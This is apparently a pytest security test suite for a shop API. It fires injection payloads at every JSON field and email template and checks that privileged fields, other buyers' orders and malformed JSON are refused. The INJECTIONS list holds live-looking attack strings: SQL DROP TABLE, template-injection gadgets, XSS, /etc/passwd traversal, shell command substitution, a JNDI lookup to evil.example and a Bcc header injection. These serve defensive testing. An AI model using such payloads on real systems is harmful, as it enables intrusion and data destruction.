"""What an attacker sends: to every operation that takes JSON, into every text of it."""

import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from functools import cache
from importlib.resources import files
from typing import Any
from uuid import uuid4

import httpx2
import pytest
from fastapi.routing import APIRoute
from jinja2 import Environment, meta

from api.app import ROUTERS
from api.bodies import BodyRoute
from domain.errors import TemporarilyUnavailableError
from domain.roles import Role
from providers.rendering import JinjaRenderer
from tests.api.answers import body, problem
from tests.api.attacks import Operation, Place, operations
from tests.api.buyer import PAYMENT, Buyer, ready_buyer
from tests.api.orders_double import OrdersDouble
from tests.support.people import People
from tests.support.prices import Prices
from tests.support.shop import Shop

INJECTIONS = (
    "' OR '1'='1'; DROP TABLE orders; --",
    "{{ 7 * 191 }}${7*191}#{7*191}<%= 7*191 %>",
    "<script>alert(1)</script>",
    '") UNION SELECT email FROM carts --',
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "../../../../etc/passwd",
    "$(touch /tmp/owned)`id`|id",
    "%s%n%x {0.__class__} ${jndi:ldap://evil.example/a}",
)
"""The first of each kind goes into every text of every body, all of them into every mail."""

UNSTORABLE = ("nul \x00", "half \ud800")
LINE_BREAKING = ("line\r\nBcc: victim@example.com", "bell \x07")
WORKED_OUT = "1337"

TAKEN = {
    "amount_paid": 0,
    "cart_id": str(uuid4()),
    "customer_id": str(uuid4()),
    "discount": {"amount": 10**6, "currency": "GBP"},
    "id": str(uuid4()),
    "is_admin": True,
    "order_id": str(uuid4()),
    "owner": "guest",
    "payment_status": "captured",
    "price": {"amount": 1, "currency": "GBP"},
    "refunded": {"amount": 1, "currency": "GBP"},
    "role": "admin",
    "roles": ["admin"],
    "scopes": ["orders:any"],
    "status_code": "placed",
    "total": {"amount": 1, "currency": "GBP"},
    "user_id": str(uuid4()),
    "__proto__": {"admin": True},
}
"""What nobody may set: prices, states, owners and rights."""


@pytest.fixture
async def buyer(guest: httpx2.AsyncClient, shop: Shop) -> Buyer:
    return await ready_buyer(guest, shop)


@pytest.fixture
async def document(guest: httpx2.AsyncClient) -> dict[str, Any]:
    return body(await guest.get("/openapi.json"))


@pytest.fixture
async def walked(document: dict[str, Any], buyer: Buyer, shop: Shop) -> AsyncIterator[list[Operation]]:
    """Every operation, led to a cart, an order and a SKU that are there; what became a rule of prices ends with it."""
    order = await buyer.has_order("payment_required")
    found = list(operations(document, {"cart_id": str(buyer.cart_id), "order_id": str(order), "sku": buyer.sku}))
    assert len(found) > 10
    yield found
    await Prices(shop).clear()


@dataclass(frozen=True)
class Attacker:
    """Somebody who may do everything, so that nothing is refused for want of a right."""

    client: httpx2.AsyncClient
    headers: dict[str, str]

    async def send(self, operation: Operation, content: Any) -> httpx2.Response:
        headers = self.headers | {"Content-Type": "application/json", "If-Match": '"1"'}
        raw = json.dumps(content).encode()
        return await self.client.request(operation.method, operation.path, content=raw, headers=headers)


@pytest.fixture
async def attacker(guest: httpx2.AsyncClient, people: People) -> Attacker:
    return Attacker(guest, (await people.staff(Role.ADMIN)).headers)


@pytest.mark.timeout(300)
async def test_what_is_injected_into_a_text_is_kept_as_it_is_or_refused(
    attacker: Attacker, walked: list[Operation], shop: Shop
) -> None:
    tables = await shop.run("SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public'")
    tried = 0
    for operation in walked:
        for place in operation.texts():
            for injection in INJECTIONS[:3]:
                answer = await attacker.send(operation, operation.with_value(place, injection))
                said = f"{operation} {place} {injection!r}: {answer.status_code} {answer.text}"
                assert str(answer.status_code) in operation.responses, said
                assert answer.status_code < 500 or _nobody_answers(answer), said
                assert WORKED_OUT not in answer.text, said
                assert "Traceback" not in answer.text, said
                tried += 1
    assert tried > 150
    assert await shop.run("SELECT count(*) FROM information_schema.tables WHERE table_schema = 'public'") == tables


@pytest.mark.timeout(300)
async def test_what_can_not_be_stored_or_would_break_a_line_is_refused_everywhere(
    attacker: Attacker, walked: list[Operation], shop: Shop
) -> None:
    before = await shop.contents()
    for operation in walked:
        for place in operation.texts():
            if place[-1] == "refresh_token":
                continue  # only its digest is ever looked up, and an unknown one may be logged out
            for text in UNSTORABLE if _is_free_text(place) else UNSTORABLE + LINE_BREAKING:
                answer = await attacker.send(operation, operation.with_value(place, text))
                assert answer.status_code in {401, 403, 422}, f"{operation} {place} {text!r}: {answer.text}"
    assert await shop.contents() == before


async def test_nobody_sets_what_they_may_not_by_adding_it_to_a_body(
    attacker: Attacker, walked: list[Operation], shop: Shop
) -> None:
    for operation in walked:
        before = await shop.contents()
        for place in operation.objects():
            if _is_a_free_map(place):
                continue
            answer = await attacker.send(operation, operation.with_members(place, TAKEN))
            refused = problem(answer, 422, "validation_error")
            assert refused["errors"], operation
        assert await shop.contents() == before, operation


async def test_a_number_is_no_text_and_a_text_no_number(attacker: Attacker, walked: list[Operation]) -> None:
    for operation in walked:
        for place in operation.texts():
            if _is_a_free_map(place):
                continue
            for wrong in (1, 1.5, True, ["a"], {"a": 1}):
                answer = await attacker.send(operation, operation.with_value(place, wrong))
                assert answer.status_code == 422, f"{operation} {place} {wrong!r}: {answer.status_code} {answer.text}"


def _nobody_answers(answer: httpx2.Response) -> bool:
    """Temporal is a double here that answers nothing: an order that was asked for something is unavailable."""
    return answer.status_code == 503 and answer.json()["code"] == TemporarilyUnavailableError.code


def _is_free_text(place: Place) -> bool:
    """Tell whether a text may have several lines: no mail's head is made of those."""
    return place[-1] in {"description", "password", "new_password", "current_password"}


def _is_a_free_map(place: Place) -> bool:
    """Tell whether an object's members have names that staff choose."""
    return bool({"attributes", "options", "prices"} & set(place))


# What belongs to others ------------------------------------------------------------------------------------------


async def test_nothing_of_another_buyer_is_there_by_its_id(
    guest: httpx2.AsyncClient, shop: Shop, orders: OrdersDouble, document: dict[str, Any]
) -> None:
    """Whatever route names a cart or an order: the answer is that of one that does not exist, to the letter."""
    mine, others = await ready_buyer(guest, shop), await ready_buyer(guest, shop)
    order = await others.has_order("payment_required")
    before = await shop.contents()
    tried = 0
    for path, item in document["paths"].items():
        if "{cart_id}" not in path and "{order_id}" not in path:
            continue
        for method in {"get", "post", "put", "patch", "delete"} & item.keys():
            theirs = path.format_map(_Names(cart_id=str(others.cart_id), order_id=str(order), sku=others.sku))
            nobodys = path.format_map(_Names(cart_id=str(uuid4()), order_id=str(uuid4()), sku=others.sku))
            content = next(
                (one.body for one in operations(document, {}) if one.name == item[method]["operationId"]), None
            )
            for headers in (mine.headers, {}):
                there, nowhere = [
                    await guest.request(method.upper(), one, headers=headers, json=content) for one in (theirs, nobodys)
                ]
                assert there.status_code in {401, 403, 404, 428}, f"{method} {path}: {there.text}"
                assert _without_instance(there) == _without_instance(nowhere), f"{method} {path}"
                tried += 1
    assert tried > 20
    assert orders.asked == []
    assert await shop.contents() == before


class _Names(dict[str, str]):
    def __missing__(self, name: str) -> str:
        return str(uuid4())


def _without_instance(answer: httpx2.Response) -> tuple[int, dict[str, Any]]:
    return answer.status_code, {name: value for name, value in answer.json().items() if name != "instance"}


async def test_a_price_of_ones_own_and_a_cart_of_a_reference_need_a_scope(
    guest: httpx2.AsyncClient, shop: Shop
) -> None:
    buyer = await ready_buyer(guest, shop)
    line = {"sku": buyer.sku, "quantity": 1, "unit_price": {"amount": 1, "currency": "GBP"}}
    problem(await guest.put(f"{buyer.path}/lines", headers=buyer.headers, json={"lines": [line]}), 403, "forbidden")
    problem(await guest.post("/v1/carts", json={"reference": "mine"}), 403, "forbidden")
    assert body(await guest.get(buyer.path, headers=buyer.headers))["total"] == {"amount": 2000, "currency": "GBP"}


# JSON itself -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b'{"email": "first@example.com", "email": "last@example.com"}',
        b'{"email": "same@example.com", "email": "same@example.com"}',
        b'{"email": "first@example.com", "\\u0065mail": "last@example.com"}',
        b'{"shipping_address": {"name": "Ada", "country": "GB", "country": "US"}}',
    ],
)
async def test_a_member_that_is_named_twice_is_refused_wherever_it_stands(buyer: Buyer, content: bytes) -> None:
    """Of two readers of one body, the first value may count for one and the last for the other."""
    headers = buyer.headers | {"Content-Type": "application/json"}
    before = body(await buyer.client.get(buyer.path, headers=buyer.headers))
    refused = problem(await buyer.client.patch(buyer.path, headers=headers, content=content), 422, "validation_error")
    assert refused["errors"] == [{"loc": ["body", 0], "msg": "The body is no JSON: A member is named twice"}]
    assert body(await buyer.client.get(buyer.path, headers=buyer.headers)) == before


async def test_a_price_that_is_named_twice_is_refused_under_a_key_too_and_the_key_stays_free(buyer: Buyer) -> None:
    path, key = f"{buyer.path}/checkout", {"Idempotency-Key": "a-key-of-this-buyer-0001"}
    headers = buyer.headers | key | {"Content-Type": "application/json"}
    token = '"payment_method": {"token": "pm_card_visa"}'
    twice = f'{{{token}, "expected_total": null, {token}}}'
    problem(await buyer.client.post(path, headers=headers, content=twice), 422, "validation_error")
    nothing = await buyer.client.post(path, headers=headers, content=b'{"payment_method": {}}')
    assert [error["loc"] for error in problem(nothing, 422, "validation_error")["errors"]] == [
        ["body", "payment_method", "token"]
    ]


def test_every_route_that_reads_json_reads_it_in_one_way_only() -> None:
    routes = [route for routers in ROUTERS.values() for router in routers for route in router.routes]
    loose = [r.name for r in routes if isinstance(r, APIRoute) and r.body_field and not isinstance(r, BodyRoute)]
    assert loose == []


@pytest.mark.parametrize(
    "number", ["1e400", "-1e400", "Infinity", "NaN", "1e3", "2.0", "9" * 100, "9" * 5_000, "-0.0", "0x10", "1_000"]
)
async def test_a_number_that_no_quantity_is_changes_nothing(buyer: Buyer, number: str) -> None:
    content = b'{"quantity": ' + number.encode() + b"}"
    headers = buyer.headers | {"Content-Type": "application/json"}
    before = body(await buyer.client.get(buyer.path, headers=buyer.headers))
    answer = await buyer.client.put(f"{buyer.path}/lines/{buyer.sku}", headers=headers, content=content)
    problem(answer, 422, "validation_error")
    assert body(await buyer.client.get(buyer.path, headers=buyer.headers)) == before


@pytest.mark.parametrize(
    "content",
    [
        b'{"shipping_address": ' + b'{"name": ' * 5_000 + b"1" + b"}" * 5_001,
        b'{"promotion_codes": ' + b"[" * 900 + b"]" * 900 + b"}",
        b"[" * 500_000,
        b'{"a":' * 150_000,
    ],
    ids=["objects", "arrays", "unclosed arrays", "unclosed objects"],
)
async def test_a_body_that_is_nested_without_end_is_refused(buyer: Buyer, content: bytes) -> None:
    headers = buyer.headers | {"Content-Type": "application/json"}
    problem(await buyer.client.patch(buyer.path, headers=headers, content=content), 422, "validation_error")


async def test_a_checkout_takes_no_price_and_no_state(buyer: Buyer, orders: OrdersDouble) -> None:
    for taken in ({"total": 1}, {"status": "placed"}, {"payment_status": "captured"}, {"order_id": str(uuid4())}):
        problem(await buyer.check_out(PAYMENT | taken), 422, "validation_error")
    assert orders.asked == []


# Mails -----------------------------------------------------------------------------------------------------------


class Injected(str):
    """Whatever a template asks of it, it is itself."""

    __slots__ = ()

    def __getitem__(self, _key: object) -> "Injected":
        return self

    def __iter__(self) -> Iterator[str]:
        yield self

    def get(self, *_: object) -> "Injected":
        return self


TEMPLATES = [name for name in JinjaRenderer().templates() if name.startswith("email/")]
MAILS = sorted({name.split("/")[1].split(".")[0] for name in TEMPLATES if not name.startswith("email/_")})


@pytest.mark.parametrize("template", MAILS)
@pytest.mark.parametrize("injection", [*INJECTIONS, "a\r\nBcc: victim@example.com"])
def test_what_is_injected_into_a_mail_is_shown_and_never_run(template: str, injection: str) -> None:
    subject, text, html = _rendered(template, Injected(injection))
    assert WORKED_OUT not in subject + text + html
    assert "<script>" not in html
    assert len(subject.splitlines()) == 1


def _rendered(template: str, value: str) -> tuple[str, str, str]:
    return JinjaRenderer().email(template, dict.fromkeys(_every_name(), value))


@cache
def _every_name() -> frozenset[str]:
    """List what any template asks for: one may extend another."""
    sources = [(files("templates") / name).read_text(encoding="utf-8") for name in TEMPLATES]
    parsed = [Environment(autoescape=True).parse(source) for source in sources]
    return frozenset().union(*map(meta.find_undeclared_variables, parsed))
